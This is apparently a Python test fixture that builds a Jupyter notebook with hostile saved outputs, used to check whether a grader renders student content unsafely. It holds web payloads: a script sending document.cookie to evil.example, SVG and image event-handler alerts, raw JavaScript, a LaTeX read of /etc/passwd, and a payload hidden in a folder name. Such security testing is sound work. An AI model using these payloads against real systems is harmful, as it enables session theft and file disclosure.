"""113b: a notebook with saved outputs that are pages, pictures and programs, and a name that is one, too.

A naive grader shows the outputs as they are to whoever marks the work, logged in as that person.
expect: all unfinished
"""

import json
from pathlib import Path

OUTPUT = {
    "output_type": "display_data",
    "metadata": {},
    "data": {
        "text/html": "<script>fetch('//evil.example/'+document.cookie)</script>",
        "image/svg+xml": "<svg onload=alert(1)>",
        "application/javascript": "alert(1)",
        "text/latex": "\\input{/etc/passwd}",
    },
}


def hand_in(folder: Path, target: dict) -> Path:
    inner = folder / "<img src=x onerror=alert(1)>"
    inner.mkdir()
    cell = {"cell_type": "code", "source": "raise ValueError('<script>alert(2)</script>')", "outputs": [OUTPUT]}
    (inner / "vault.ipynb").write_text(json.dumps({"cells": [cell]}))
    return inner
